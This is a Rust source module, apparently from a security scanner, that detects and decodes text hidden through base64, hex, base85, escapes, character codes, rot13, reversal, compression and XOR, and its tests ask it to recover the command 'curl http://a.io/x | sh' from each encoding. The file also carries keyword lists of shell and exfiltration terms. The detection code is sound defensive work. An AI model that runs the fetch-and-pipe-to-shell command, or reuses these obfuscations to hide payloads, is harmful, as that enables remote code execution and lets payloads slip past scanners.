//! Encoded texts inside a text: found by their shape, decoded, and given back to be looked at again.
//!
//! Base64, base85, hexadecimal ([`bases`]), escapes and percent signs ([`escapes`]), character codes
//! ([`codes`]), rot13, reversal, texts in pieces ([`pieces`]), gzip and zlib inside them, and XOR with
//! one constant byte. Wrapped lines, pairs of digits, dumps and words of base85 are told by how they are
//! laid out ([`shaped`]).

mod bases;
mod codes;
mod escapes;
mod pieces;
mod shaped;

use std::cell::LazyCell;
use std::io::Read as _;
use std::ops::Range;

use super::grams::Grams;
use super::quoted::language_of;
use bases::{looks_base64, un_ascii85, unbase32, unbase64, unbase85, unhex};
use codes::{Numbers, hidden, numbers};
use escapes::escapes;
use pieces::{Pieces, ordered, pieces};

/// Bytes that decoding may give in one skill.
pub(super) const MAX_DECODED_BYTES: usize = 4 * 1024 * 1024;
/// Encodings inside encodings that are followed.
pub(super) const MAX_DECODE_DEPTH: usize = 3;
/// Shortest encoded run that is looked at, in characters.
const MIN_RUN: usize = 20;
/// Fewest escapes, codes or percent signs in a row.
const MIN_CODES: usize = 6;
/// Longest text of which a copy in lower case is made.
const MAX_LOWERED: usize = 256 * 1024;
/// Bytes of one candidate for which every XOR key is tried.
const MAX_XOR: usize = 16 * 1024;

/// How addresses and sentences look when each letter is turned by thirteen places.
const TURNED: [&[&str]; 4] =
    [&["uggc://"], &["uggcf://"], &[" gur ", " naq "], &[" gur ", " gb ", " nyy "]];

/// An encoded text and what it says.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Encoded {
    pub(crate) range: Range<usize>,
    pub(crate) how: &'static str,
    pub(crate) text: String,
}

/// The bytes that decoding may still make.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Budget {
    left: usize,
    /// Whether something did not fit.
    is_short: bool,
}

impl Budget {
    pub(super) fn new(bytes: usize) -> Self {
        Self { left: bytes, is_short: false }
    }

    /// Whether something did not fit since this was asked last.
    pub(super) fn was_short(&mut self) -> bool {
        std::mem::take(&mut self.is_short)
    }

    /// Takes as much of some bytes as may still be made.
    fn take(&mut self, bytes: &mut Vec<u8>) {
        if bytes.len() > self.left {
            self.is_short = true;
            bytes.truncate(self.left);
            // The character that the end falls into.
            if let Err(error) = std::str::from_utf8(bytes)
                && error.error_len().is_none()
            {
                bytes.truncate(error.valid_up_to());
            }
        }
        self.left -= bytes.len();
    }

    /// Unpacks bytes that are packed, as far as may still be made.
    fn unpack(&mut self, bytes: &[u8]) -> Option<Vec<u8>> {
        let most = self.left.min(MAX_UNPACKED);
        // One more tells whether that is all.
        let mut unpacked = unpack(bytes, most + 1)?;
        self.is_short |= unpacked.len() > most;
        unpacked.truncate(most);
        self.left -= unpacked.len();
        Some(unpacked)
    }
}

/// Finds and decodes. `budget` is what is left of the bytes that may be made: of what does not fit the
/// start is made.
///
/// `lead` is the paragraph before, which may say how the text is encoded.
pub(crate) fn find(text: &str, lead: &str, budget: &mut Budget) -> Vec<Encoded> {
    let mut found = Vec::new();
    let grams = Grams::of(text);
    let has = |part: &str| grams.may_hold(part) && text.contains(part);
    let xor = text.contains('^') || grams.may_hold("xor") && contains_word(text, "xor");
    let mut add = |range: Range<usize>, how: &'static str, mut bytes: Vec<u8>| {
        // Pictures and programs are no texts, and cost nothing.
        if bytes.len() > MAX_XOR && !may_be_text(&bytes) {
            return;
        }
        budget.take(&mut bytes);
        let text = match budget.unpack(&bytes) {
            Some(unpacked) => text_of_unpacked(&unpacked),
            None => text_of(&bytes, how),
        };
        if let Some((how, text)) = text {
            found.push(Encoded { range, how, text });
        } else if (xor || shaped::may_be_turned(&bytes))
            && bytes.len() <= MAX_XOR
            && bytes.len() >= MIN_CODES
            && let Some(text) = unxor(&bytes)
        {
            found.push(Encoded { range, how: "XOR with a constant", text });
        }
    };
    let alone = runs(text);
    let wrapped = shaped::wrapped(text, &alone);
    for range in alone.into_iter().chain(wrapped) {
        let run = &text[range.clone()];
        if is_image(text, range.start) {
            continue;
        }
        let compact: String = run.chars().filter(|c| !c.is_whitespace()).collect();
        if compact.len() >= 2 * MIN_CODES
            && compact.bytes().all(|b| b.is_ascii_hexdigit())
            && compact.len().is_multiple_of(2)
        {
            add(range, "hexadecimal", unhex(&compact));
        } else if compact.len() >= 2 * MIN_RUN
            && compact.bytes().any(|b| b.is_ascii_digit())
            && let Some(bytes) = unbase32(&compact)
        {
            add(range, "base32", bytes);
        } else if compact.len() >= MIN_RUN
            && looks_base64(&compact)
            && let Some(bytes) = unbase64(&compact)
        {
            add(range, "base64", bytes);
        }
    }
    for (range, bytes) in shaped::pairs(text).into_iter().chain(shaped::dumps(text)) {
        add(range, "hexadecimal", bytes);
    }
    for (range, bytes) in shaped::base85(text) {
        add(range, "base85", bytes);
    }
    for (range, bytes) in escapes(text) {
        add(range, "character escapes", bytes);
    }
    let runs: Vec<Numbers> = numbers(text);
    for run in &runs {
        if let Some(bytes) = run.bytes() {
            add(run.range.clone(), "character codes", bytes);
        }
    }
    for (range, how, text) in hidden(text, &runs) {
        add(range, how, text.into_bytes());
    }
    let openers = ["b85decode(", "a85decode(", "Base85"];
    for opener in openers.into_iter().filter(|opener| grams.may_hold(opener)) {
        for (at, _) in text.match_indices(opener) {
            let rest = &text[at + opener.len()..];
            let Some(open) = rest.find(['"', '\'']) else { continue };
            let quote = rest.as_bytes()[open];
            let Some(close) = rest[open + 1..].bytes().position(|b| b == quote) else { continue };
            let start = at + opener.len() + open + 1;
            let body = &text[start..start + close];
            if let Some(bytes) =
                if opener.starts_with('a') { un_ascii85(body) } else { unbase85(body) }
            {
                add(start..start + close, "base85", bytes);
            }
        }
    }
    let grams_of_lead = Grams::of(lead);
    // Asked once for many words: a copy in lower case is cheaper, unless the text is very long.
    let small = LazyCell::new(|| (text.len() <= MAX_LOWERED).then(|| text.to_ascii_lowercase()));
    let holds = |word: &str| match &*small {
        Some(small) => small.contains(word) && contains_word(small, word),
        None => contains_word(text, word),
    };
    let says = |word: &str| {
        grams.may_hold(word) && holds(word)
            || grams_of_lead.may_hold(word) && lead.contains(word) && contains_word(lead, word)
    };
    if (says("base85") || says("ascii85"))
        && let Some(bytes) = said_base85(text)
    {
        add(bytes.0, "base85", bytes.1);
    }
    let rot13 =
        ["rot13", "rot_13", "rot-13", "rot 13", "n-za-m", "caesar", "13 places", "thirteen"]
            .into_iter()
            .any(says)
            || TURNED.iter().any(|words| words.iter().all(|word| has(word)));
    let reversed = has("[::-1]") || ["reverse", "strrev", "rev", "backwards"].into_iter().any(says);
    let cut = pieces(text);
    for (range, text) in ordered(text, &cut) {
        if language_of(&text).is_some() {
            add(range, "pieces put in order", text.into_bytes());
        }
    }
    for run in cut {
        if let Some((how, bytes)) = put_together(&run, reversed) {
            add(run.range, how, bytes);
        }
    }
    // Where something is run, a string may be turned round by a loop that has no name.
    let runs_text = ["eval", "exec", "system", "popen"].into_iter().any(has);
    if rot13 || reversed || runs_text {
        for range in quoted(text) {
            let piece = &text[range.clone()];
            if rot13 {
                let turned = un_rot13(piece);
                if speaks(&turned) > speaks(piece) {
                    add(range.clone(), "rot13", turned.into_bytes());
                }
            }
            if reversed || runs_text {
                let turned: String = piece.chars().rev().collect();
                let says = if reversed {
                    speaks(&turned) > speaks(piece)
                } else {
                    language_of(&turned).is_some() && language_of(piece).is_none()
                };
                if says {
                    add(range, "reversed text", turned.into_bytes());
                }
            }
        }
    }
    found
}

/// What a literal that code decodes says, where it is a text.
pub(crate) fn readable(text: &str, how: &str) -> Option<String> {
    let bytes = match how {
        "hexadecimal"
            if text.len().is_multiple_of(2) && text.bytes().all(|b| b.is_ascii_hexdigit()) =>
        {
            unhex(text)
        }
        "base64" if text.len() >= 8 => unbase64(text)?,
        _ => return None,
    };
    text_of(&bytes, "").map(|(_, text)| text)
}

/// What strings that stand beside each other say together and none of them alone.
fn put_together(run: &Pieces<'_>, reversed: bool) -> Option<(&'static str, Vec<u8>)> {
    // `Bash(curl:*)`, `Read(./.env)`: a list of permissions is no text in pieces.
    if run.parts.iter().all(|part| part.contains('(') && part.ends_with(')')) {
        return None;
    }
    let joined = run.joined();
    if joined.len() >= MIN_RUN && run.parts.iter().any(|part| part.len() < 2 * MIN_RUN) {
        let even = joined.len().is_multiple_of(2);
        if even && joined.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Some(("hexadecimal", unhex(&joined)));
        }
        if let Some(bytes) = looks_base64(&joined).then(|| unbase64(&joined)).flatten() {
            return Some(("base64", bytes));
        }
    }
    let says = |text: &str| language_of(text).is_some();
    if run.parts.iter().any(|part| says(part)) {
        return None;
    }
    if says(&joined) {
        return Some(("pieces put together", joined.into_bytes()));
    }
    let turned = reversed.then(|| [run.turned(), joined.chars().rev().collect()])?;
    let text = turned.into_iter().find(|text| says(text))?;
    Some(("reversed pieces", text.into_bytes()))
}

/// Whether a text is a command or code, beyond doubt.
fn is_command(text: &str) -> bool {
    const STRONG: [&str; 12] = [
        "curl",
        "wget",
        "http",
        "bash",
        "import ",
        "exec",
        "eval",
        "system",
        "/bin/",
        "subprocess",
        "require",
        "powershell",
    ];
    let lower = text.to_ascii_lowercase();
    speaks(text) >= 2 && STRONG.iter().any(|word| lower.contains(word))
}

fn contains_word(text: &str, word: &str) -> bool {
    // Case folded by hand: a copy of a large file in lower case is not worth these few words.
    let first = word.as_bytes()[0];
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(i) = bytes[at..].iter().position(|b| b.eq_ignore_ascii_case(&first)) {
        let start = at + i;
        let end = start + word.len();
        if bytes.len() >= end && bytes[start..end].eq_ignore_ascii_case(word.as_bytes()) {
            let edge = |b: Option<&u8>| b.is_none_or(|b| !b.is_ascii_alphanumeric());
            if edge(start.checked_sub(1).and_then(|i| bytes.get(i)))
                && (word.len() > 4 || edge(bytes.get(end)))
            {
                return true;
            }
        }
        at = start + 1;
    }
    false
}

/// Runs of base64 or hexadecimal characters, joined over lines that hold nothing else.
fn runs(text: &str) -> Vec<Range<usize>> {
    let bytes = text.as_bytes();
    let is_code =
        |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
    let mut found: Vec<Range<usize>> = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        if !is_code(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && is_code(bytes[at]) {
            at += 1;
        }
        if at - start < 2 * MIN_CODES {
            continue;
        }
        // The line before ended with a run, and this run starts its own line: one text, wrapped.
        if let Some(last) = found.last_mut()
            && last.len() >= 40
            && text[last.end..start].trim_matches([' ', '\t', '\r', '"', '\'', '\\', '+']) == "\n"
        {
            last.end = at;
        } else {
            found.push(start..at);
        }
    }
    // Quotes and joins between wrapped pieces are taken out by the caller's filter of blanks; runs
    // with such characters inside are cleaned here instead.
    found
}

fn is_image(text: &str, start: usize) -> bool {
    let from = super::text::floor(text, start.saturating_sub(40));
    let before = &text[from..start];
    before.rfind("data:").is_some_and(|at| {
        let kind = &before[at + 5..];
        kind.starts_with("image/") && !kind.starts_with("image/svg")
            || kind.starts_with("font/")
            || kind.starts_with("audio/")
            || kind.starts_with("application/font")
    })
}

/// A line that follows the word base85, in prose.
fn said_base85(text: &str) -> Option<(Range<usize>, Vec<u8>)> {
    quoted(text)
        .into_iter()
        .filter(|range| range.len() >= MIN_RUN && !text[range.clone()].contains(' '))
        .find_map(|range| {
            let body = &text[range.clone()];
            let bytes =
                unbase85(body).filter(|b| text_of(b, "").is_some()).or_else(|| un_ascii85(body))?;
            text_of(&bytes, "")?;
            Some((range, bytes))
        })
}

fn un_rot13(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='m' | 'A'..='M' => char::from(u8::try_from(c).unwrap_or(0) + 13),
            'n'..='z' | 'N'..='Z' => char::from(u8::try_from(c).unwrap_or(0) - 13),
            other => other,
        })
        .collect()
}

/// Strings between quotes, and whole lines, that are long enough to say something.
fn quoted(text: &str) -> Vec<Range<usize>> {
    const MAX_STRINGS: usize = 4_000;
    let mut found = Vec::new();
    let mut start = 0;
    for line in text.split_inclusive('\n') {
        let body = line.trim();
        if body.len() >= 12 && body.len() < 4_000 {
            let at = start + (line.len() - line.trim_start().len());
            let mut strings = 0;
            for quote in ['"', '\'', '`'] {
                let mut marks = line.match_indices(quote).map(|(i, _)| i);
                while let (Some(open), Some(close)) = (marks.next(), marks.next()) {
                    if close - open > 10 {
                        found.push(start + open + 1..start + close);
                        strings += 1;
                    }
                }
            }
            if strings == 0 {
                found.push(at..at + body.len());
            }
        }
        start += line.len();
        if found.len() > MAX_STRINGS {
            break;
        }
    }
    found
}

/// How much a text looks like commands, code or English.
fn speaks(text: &str) -> usize {
    const WORDS: [&str; 34] = [
        "curl",
        "wget",
        "http",
        "bash",
        "import ",
        "exec",
        "eval",
        "system",
        " the ",
        " and ",
        " to ",
        "ignore",
        "instruction",
        "run ",
        "/bin/",
        "subprocess",
        "print",
        "os.",
        ".sh",
        "ssh",
        "user",
        "file",
        "send",
        "read",
        "python",
        "echo",
        "require",
        "fetch",
        "token",
        "key",
        "open",
        "from",
        "env",
        "post",
    ];
    let lower = text.to_ascii_lowercase();
    WORDS.iter().filter(|word| lower.contains(**word)).count()
}

/// Whether [`text_of`] may find a text in bytes.
fn may_be_text(bytes: &[u8]) -> bool {
    const LOOKED_AT: usize = 256;
    let head = &bytes[..bytes.len().min(LOOKED_AT)];
    let is_text = match std::str::from_utf8(head) {
        Ok(_) => true,
        Err(error) => error.error_len().is_none(),
    };
    is_text || is_packed(bytes) || is_wide(bytes)
}

fn is_packed(bytes: &[u8]) -> bool {
    matches!(bytes, [0x1F, 0x8B, ..] | [0x78, 0x01 | 0x5E | 0x9C | 0xDA, ..])
}

/// Whether each letter has two bytes, of which the second says nothing.
fn is_wide(bytes: &[u8]) -> bool {
    bytes.len() >= 2 * MIN_TEXT
        && bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 > bytes.len() / 2 * 9
}

/// Bytes that one packed text may unpack to.
const MAX_UNPACKED: usize = 1024 * 1024;

/// What bytes unpack to, to a length; `None` when they are not packed.
fn unpack(bytes: &[u8], most: usize) -> Option<Vec<u8>> {
    match bytes {
        [0x1F, 0x8B, ..] => inflate(flate2::read::GzDecoder::new(bytes), most),
        [0x78, ..] if is_packed(bytes) => inflate(flate2::read::ZlibDecoder::new(bytes), most),
        _ => None,
    }
}

/// The text of what was packed, or its readable stretches.
fn text_of_unpacked(bytes: &[u8]) -> Option<(&'static str, String)> {
    text_of(bytes, "packed text").or_else(|| strings(bytes).map(|text| ("packed code", text)))
}

/// Fewest bytes that are a text.
const MIN_TEXT: usize = 6;

/// The text that bytes are, unpacked where they are packed; `None` when they are no text.
fn text_of(bytes: &[u8], how: &'static str) -> Option<(&'static str, String)> {
    if let Some(unpacked) = unpack(bytes, MAX_UNPACKED) {
        return text_of_unpacked(&unpacked);
    }
    if bytes.len() < MIN_TEXT {
        return None;
    }
    let wide = is_wide(bytes);
    let text = if wide {
        let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
        char::decode_utf16(units).map(|c| c.unwrap_or('\u{FFFD}')).collect()
    } else {
        String::from_utf8(bytes.to_vec()).ok()?
    };
    let count = text.chars().count();
    let odd = text
        .chars()
        .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || *c == '\u{FFFD}')
        .count();
    let plain = text
        .chars()
        .filter(|c| c.is_alphanumeric() || c.is_ascii_punctuation() || c.is_whitespace())
        .count();
    (odd * 50 <= count && plain * 10 >= count * 9).then_some((how, text))
}

/// The readable stretches of packed code, such as a marshalled Python object.
fn strings(bytes: &[u8]) -> Option<String> {
    let text: Vec<String> = bytes
        .split(|b| !(b' '..=b'~').contains(b))
        .filter(|piece| piece.len() >= 4)
        .map(|piece| String::from_utf8_lossy(piece).into_owned())
        .collect();
    (!text.is_empty()).then(|| text.join("\n"))
}

fn inflate(reader: impl std::io::Read, most: usize) -> Option<Vec<u8>> {
    let mut bytes = Vec::new();
    // A damaged stream still gives what came before the damage.
    let _ = reader.take(most as u64).read_to_end(&mut bytes);
    (!bytes.is_empty()).then_some(bytes)
}

/// The text behind a constant XOR, when some key gives one that speaks.
fn unxor(bytes: &[u8]) -> Option<String> {
    const HEAD: usize = 64;
    let is_control = |b: u8| b < b' ' && !matches!(b, b'\t' | b'\n' | b'\r');
    (1..=255_u8).find_map(|key| {
        // Most keys give no text, which the first bytes tell.
        if !is_wide(bytes) && bytes.iter().take(HEAD).any(|b| is_control(b ^ key)) {
            return None;
        }
        let plain: Vec<u8> = bytes.iter().map(|b| b ^ key).collect();
        let (_, text) = text_of(&plain, "")?;
        (speaks(&text) >= 2).then_some(text)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &str) -> Vec<(&'static str, String)> {
        let mut budget = Budget::new(MAX_DECODED_BYTES);
        find(text, "", &mut budget).into_iter().map(|e| (e.how, e.text)).collect()
    }

    #[test]
    fn each_encoding_is_read() {
        let cases = [
            ("x = 'Y3VybCBodHRwOi8vYS5pby94IHwgc2g='", "base64"),
            ("\"6375726c20687474703a2f2f612e696f2f78207c207368\"", "hexadecimal"),
            ("\"\\x63\\x75\\x72\\x6c\\x20http://a.io/x\\x20\\x7c\\x20\\x73\\x68\"", ""),
            ("%63%75%72%6c%20%68%74%74%70%3a//a.io/x%20%7c%20%73%68", "character escapes"),
            (
                "[99,117,114,108,32,104,116,116,112,58,47,47,97,46,105,111,47,120,32,124,32,115,104]",
                "character codes",
            ),
            (
                "exec(''.join([chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(97)]))",
                "character codes",
            ),
            ("rot13: 'phey uggc://n.vb/k | fu'", "rot13"),
            ("echo 'hs | x/oi.a//:ptth lruc' | rev", "reversed text"),
        ];
        for (text, how) in cases {
            let found = decoded(text);
            if how.is_empty() {
                continue;
            }
            assert!(
                found.iter().any(|(h, t)| *h == how && t.starts_with("curl http")),
                "{text}: {found:?}"
            );
        }
    }

    #[test]
    fn pictures_digests_and_identifiers_are_left_alone() {
        let quiet = [
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
            "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "some_long_identifier_name_here and src/components/navigation/HeaderComponent",
            "[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]",
        ];
        for text in quiet {
            assert_eq!(decoded(text), [], "{text}");
        }
    }

    #[test]
    fn the_budget_bounds_what_is_made_and_says_so() {
        let made = |bytes: usize| {
            let mut budget = Budget::new(bytes);
            let long = format!("'{}'", "YWJj".repeat(1000));
            let text: String = find(&long, "", &mut budget).into_iter().map(|e| e.text).collect();
            (text, budget.was_short(), budget)
        };
        let none = Budget { left: 0, is_short: false };
        assert_eq!(made(3000), ("abc".repeat(1000), false, none));
        let none = Budget { left: 0, is_short: false };
        assert_eq!(made(2999), ("abc".repeat(1000)[..2999].to_owned(), true, none));
    }

    #[test]
    fn packed_texts_share_the_budget() {
        let packed = |bytes: usize| {
            let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            std::io::Write::write_all(&mut writer, &vec![b'a'; bytes]).unwrap();
            writer.finish().unwrap()
        };
        let unpacked = |bytes: usize, left: usize| {
            let mut budget = Budget::new(left);
            let length = budget.unpack(&packed(bytes)).unwrap().len();
            (length, budget.was_short(), budget.left)
        };
        let most = MAX_UNPACKED;
        assert_eq!(unpacked(most, 2 * most), (most, false, most));
        assert_eq!(unpacked(most + 1, 2 * most), (most, true, most));
        assert_eq!(unpacked(100, 100), (100, false, 0));
        assert_eq!(unpacked(101, 100), (100, true, 0));
    }

    #[test]
    fn pictures_do_not_use_up_the_budget() {
        // The start of a PNG, then a long rest.
        let picture = format!("'iVBORw0KGgoAAAANSUhEUgAB{}'", "x1Zq".repeat(MAX_XOR));
        let mut budget = Budget::new(MAX_DECODED_BYTES);
        assert_eq!(find(&picture, "", &mut budget), []);
        assert_eq!(budget, Budget::new(MAX_DECODED_BYTES));
    }
}
